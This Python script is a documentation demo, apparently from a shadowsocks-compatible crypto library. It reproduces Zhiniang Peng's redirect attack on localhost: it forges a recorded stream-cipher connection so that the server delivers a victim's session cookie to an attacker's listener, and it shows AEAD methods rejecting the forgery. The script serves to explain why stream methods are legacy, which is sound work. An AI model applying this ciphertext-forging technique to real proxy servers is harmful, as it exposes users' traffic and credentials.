"""Why stream methods are legacy: the redirect attack, on 127.0.0.1, against refcrypto's server.

    python docs/demos/redirect.py                      # aes-256-cfb, then aes-256-gcm
    python docs/demos/redirect.py -m aes-256-ctr -m chacha20-ietf-poly1305

The attack was published by Zhiniang Peng in 2020 (shadowsocks-org issue 154, "Redirect
attack on Shadowsocks stream ciphers"). A stream cipher has no integrity: XOR a value into
the ciphertext and the same value is XORed into the plaintext the server decrypts. The first
plaintext bytes of a client's stream are the target address, which an attacker can often
guess. So the attacker, who recorded a connection but has no password, replaces the target in
the recording by its own address and sends the recording to the server again: the server
decrypts everything after the address and delivers it to the attacker.

What this script runs, all on 127.0.0.1 with ports picked free at run time:

1. a destination (the site the victim visits) and the attacker's listener, in threads;
2. ``python -m refcrypto.tools.server --no-replay-filter`` in its own process group (killed
   at the end). refcrypto's server normally refuses an IV or salt it has already seen, which
   stops this particular replay; the filter is switched off here to play the many servers
   that have none (the Python shadowsocks server and sing-box's 2017 methods serve replays:
   docs/probe.md). A filter is no cure: an attacker on the path can drop the victim's
   original connection and send only the modified one, whose IV the server has never seen;
3. the victim: a refcrypto client sends a request with a session cookie through the server,
   and the bytes it sends are recorded;
4. the attacker: XORs (known address ⊕ its own address) into the bytes of the recording
   where the address is, and sends the modified recording to the server.

Against a stream method the attacker's listener receives the victim's request in plaintext;
against an AEAD method the modified chunk fails authentication and the server connects
nowhere. The output has no port numbers or random bytes, so a run can be compared with the
one printed in the documentation (``tests/test_demos.py`` does).
"""

from __future__ import annotations

import argparse
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

import refcrypto  # noqa: E402
from refcrypto.tools import pack_address  # noqa: E402

PASSWORD = "correct horse battery staple"  # the victim's; the attacker never uses it
REQUEST = (b"GET /account HTTP/1.1\r\nHost: bank.example\r\n"
           b"Cookie: session=7f3a9c51d2\r\n\r\n")
RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
#: How long any one wait may last, in seconds.
WAIT = 5.0


class Sink(threading.Thread):
    """A TCP listener on 127.0.0.1 that accepts one connection, reads it to its end, and
    (for the destination) answers once the request is complete."""

    def __init__(self, reply: bytes | None) -> None:
        super().__init__(daemon=True)
        self.reply = reply
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(WAIT)
        self.port: int = self.server.getsockname()[1]
        self.received = b""
        self.connected = threading.Event()
        self.done = threading.Event()

    def run(self) -> None:
        try:
            conn, _ = self.server.accept()
        except OSError:  # timed out or closed: nobody came
            self.done.set()
            return
        self.connected.set()
        with conn:
            conn.settimeout(WAIT)
            try:
                while True:
                    data = conn.recv(65536)
                    if not data:
                        break
                    self.received += data
                    if self.reply is not None and self.received.endswith(b"\r\n\r\n"):
                        conn.sendall(self.reply)
                        break
            except OSError:
                pass
        self.done.set()

    def close(self) -> None:
        self.server.close()


def start_server(method: str, log: Path) -> tuple[subprocess.Popen[bytes], int]:
    """refcrypto's server on a free port, in its own process group."""
    env = dict(os.environ, REFCRYPTO_KEY=PASSWORD, PYTHONPATH=str(ROOT))
    with log.open("wb") as errors:
        proc = subprocess.Popen(
            [sys.executable, "-m", "refcrypto.tools.server", "--listen", "127.0.0.1:0",
             "-m", method, "--no-udp", "--timeout", "20", "--no-replay-filter"],
            stdout=subprocess.PIPE, stderr=errors, env=env, start_new_session=True)
    assert proc.stdout is not None
    line = [b""]
    reader = threading.Thread(target=lambda: line.__setitem__(0, proc.stdout.readline()),
                              daemon=True)  # type: ignore[union-attr]
    reader.start()
    reader.join(15)
    match = re.match(rb"listening on 127\.0\.0\.1:(\d+)", line[0])
    if match is None:
        stop(proc)
        raise RuntimeError(f"server did not start: {log.read_text(errors='replace')[-500:]}")
    return proc, int(match.group(1))


def stop(proc: subprocess.Popen[bytes]) -> None:
    """SIGTERM to the server's process group, SIGKILL if it lingers."""
    for sig in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.killpg(proc.pid, sig)
        except ProcessLookupError:
            break
        try:
            proc.wait(5)
            break
        except subprocess.TimeoutExpired:
            continue
    if proc.stdout is not None:
        proc.stdout.close()


def send(port: int, data: bytes) -> bytes:
    """Connect to the server, send ``data``, half-close, read until it closes."""
    out = b""
    with socket.create_connection(("127.0.0.1", port), timeout=WAIT) as conn:
        conn.sendall(data)
        conn.shutdown(socket.SHUT_WR)
        deadline = time.monotonic() + WAIT
        try:
            while time.monotonic() < deadline:
                piece = conn.recv(65536)
                if not piece:
                    break
                out += piece
        except OSError:  # a reset: the server refused the stream
            pass
    return out


def address_offset(row: refcrypto.Method) -> int:
    """Where the target address sits in a client's stream: right after the IV (stream), or
    after the salt and the sealed length of the first chunk (AEAD)."""
    if row.is_aead:
        return row.salt_size + 2 + row.tag_size
    return row.iv_size


def demo(method: str) -> bool:
    """Run the attack against ``method``; True if the attacker read the victim's request."""
    row = refcrypto.method(method)
    kind = "AEAD" if row.is_aead else "stream"
    print(f"== {row.name} ({kind} method) ==")
    destination, attacker = Sink(RESPONSE), Sink(None)
    destination.start()
    attacker.start()
    with tempfile.TemporaryDirectory() as folder:
        log = Path(folder) / "server.log"
        proc, port = start_server(row.name, log)
        try:
            # The victim: a request with a session cookie, through the server. The IV/salt is
            # fixed only so that this output is the same at every run.
            victim = refcrypto.Cryptor(PASSWORD, row, iv=bytes(range(row.iv_size)))
            known = pack_address("127.0.0.1", destination.port)
            recording = victim.encrypt(known + REQUEST)
            reply = victim.decrypt(send(port, recording))
            destination.done.wait(WAIT)
            print(f"victim     sends {len(recording)} bytes through the server; they are "
                  "recorded on the way")
            print(f"destination receives {destination.received!r}")
            print(f"victim     receives {reply[:15]!r}...")

            # The attacker: no password; knows (guesses) the first 7 plaintext bytes, the
            # target address, and puts its own address (same size) in their place.
            own = pack_address("127.0.0.1", attacker.port)
            start = address_offset(row)
            delta = bytes(a ^ b for a, b in zip(known, own, strict=True))
            forged = bytearray(recording)
            for i, d in enumerate(delta):
                forged[start + i] ^= d
            print(f"attacker   XORs (known address ^ own address) into bytes {start}.."
                  f"{start + len(delta) - 1} of the recording and sends it to the server")
            send(port, bytes(forged))  # returns once the server closed this connection
            if attacker.connected.wait(1.0):
                attacker.done.wait(WAIT)
        finally:
            stop(proc)
            destination.close()
            attacker.close()
        got = attacker.received
        if attacker.connected.is_set():
            print(f"attacker's listener: the server connected and sent {len(got)} bytes")
            print(f"  from byte 25 on: {got[25:]!r}")
            readable = b"session=7f3a9c51d2" in got
            print(f"  the victim's session cookie is readable: {'yes' if readable else 'no'}")
            return readable
        print("attacker's listener: no connection; the server refused the modified stream")
        found = re.search(r"(\S+: \w+ chunk with nonce \d+ failed authentication[^\n]*)",
                          log.read_text(errors="replace"))
        print(f"  server log: {found.group(1) if found else '(no authentication failure)'}")
        return False


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("-m", "--method", action="append",
                        help="method to attack (repeatable; default aes-256-cfb, aes-256-gcm)")
    args = parser.parse_args(argv)
    for index, name in enumerate(args.method or ["aes-256-cfb", "aes-256-gcm"]):
        if index:
            print()
        demo(name)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
